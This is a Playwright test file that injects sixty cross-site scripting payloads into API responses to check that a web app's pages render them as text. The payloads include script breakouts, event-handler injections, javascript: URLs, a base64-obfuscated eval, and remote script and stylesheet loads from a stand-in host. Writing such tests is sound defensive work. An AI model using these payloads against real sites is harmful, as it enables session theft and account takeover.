/**
 * Names come from the wire: whoever sends a datagram may write them. Here every one of them is an attack, on every page,
 * and nothing of them runs. The browser's own complaints are watched as in every test (see world.ts).
 */

import type { Page } from "@playwright/test";
import { expect, open, painted, test } from "./world";

const RUN = "window.ran=1";
/** Sixty ways to break out of text, an attribute, a style, a script, an address, a template or JSON. */
const ATTACKS: string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<script src=data:,${RUN}></script>`,
  `<script src=//192.0.2.66/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror=eval(atob('d2luZG93LnJhbj0x'))>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}>x</textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style>@import"//192.0.2.66/x.css";</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<x onpointerenter=${RUN} style=position:fixed;inset:0>x</x>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `\` onerror=${RUN} \``,
  `javascript:${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${RUN}>*/${RUN}`,
  `data:text/html,<script>parent.ran=1</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `'-(${RUN})-'`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\u2028${RUN}\u2029\u202e\u0000<img src=x onerror=${RUN}>`,
];

/** Fields that somebody outside may fill: over flows, options data, counter samples, logs or an import. */
const FROM_OUTSIDE = /^(name|hostname|note|detail|message|reason|location|label|external_id)$|_name$/;

function infect(value: unknown, key: string, turn: { at: number }): unknown {
  if (Array.isArray(value)) return value.map((one) => infect(one, key, turn));
  if (value !== null && typeof value === "object") {
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, infect(one, name, turn)]));
  }
  if (typeof value !== "string" || !FROM_OUTSIDE.test(key)) return value;
  // All of them in each, beginning with another one each time: an attack that swallows what follows hides none for long.
  const from = (turn.at++ * 7) % ATTACKS.length;
  return [...ATTACKS.slice(from), ...ATTACKS.slice(0, from)].join("");
}

/** Says how many strings were infected. */
async function infected(page: Page): Promise<() => number> {
  const turn = { at: 0 };
  await page.route("**/api/v1/**", async (route) => {
    const answer = await route.fetch();
    const type = answer.headers()["content-type"] ?? "";
    if (!type.startsWith("application/json")) return route.fulfill({ response: answer });
    const body = infect(await answer.json(), "", turn);
    return route.fulfill({ response: answer, json: body });
  });
  return () => turn.at;
}

const PAGES = [
  ["the map", "/map"],
  ["a node on the map", "/map?sel=%2210.1.20.0%2F24%401%22"],
  ["the list", "/map?tab=list"],
  ["the assets", "/assets"],
  ["an asset", "/assets/20"],
  ["the dependencies", "/dependencies"],
  ["a dependency", "/dependencies/30"],
  ["the flow sources", "/sources"],
  ["a flow source with names", "/sources?id=1"],
  ["the cloud logs", "/feeds"],
  ["a feed", "/feeds?id=1"],
  ["a feed that is pushed to", "/feeds?id=4"],
  ["a feed that is woken", "/feeds?id=5"],
  ["the classification", "/classification"],
  ["the health", "/health"],
] as const;

test("there are sixty attacks", () => {
  expect(new Set(ATTACKS).size).toBe(60);
});

for (const [name, path] of PAGES) {
  test(`${name}: attacks in whatever comes from outside are text`, async ({ page }) => {
    const count = await infected(page);
    await open(page, path);
    await page.waitForLoadState("networkidle");
    if (path === "/map") await painted(page);
    expect(count()).toBeGreaterThan(0);
    expect(await page.evaluate(() => (window as unknown as { ran?: number }).ran)).toBeUndefined();
    expect(await page.locator("iframe, object, embed, base, marquee, math, body script:not([src])").count()).toBe(0);
  });
}

test("the attacks are ones: in a page without our care, they run", async ({ page }) => {
  await page.setContent(`<div id=here></div>`);
  const attack = ATTACKS.find((one) => one.startsWith("<details")) ?? "";
  await page.evaluate((text) => {
    const here = document.getElementById("here");
    if (here) here.innerHTML = text;
  }, attack);
  await expect.poll(() => page.evaluate(() => (window as unknown as { ran?: number }).ran)).toBe(1);
});
